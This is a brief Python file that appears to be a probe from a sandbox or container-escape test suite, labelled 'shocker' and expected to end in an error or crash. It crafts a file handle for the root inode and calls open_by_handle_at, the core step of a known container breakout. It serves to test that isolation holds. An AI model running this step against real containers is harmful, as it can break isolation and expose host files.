"""Opens files outside by their handles, which need no path ("shocker").
Ends as: error, crash
"""

import ctypes
import os


def attack(X, wrong):
    libc = ctypes.CDLL(None, use_errno=True)
    root = os.open("/", os.O_RDONLY)
    handle = (ctypes.c_char * 16)()
    ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 16)
    if libc.open_by_handle_at(root, handle, os.O_RDONLY) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return wrong
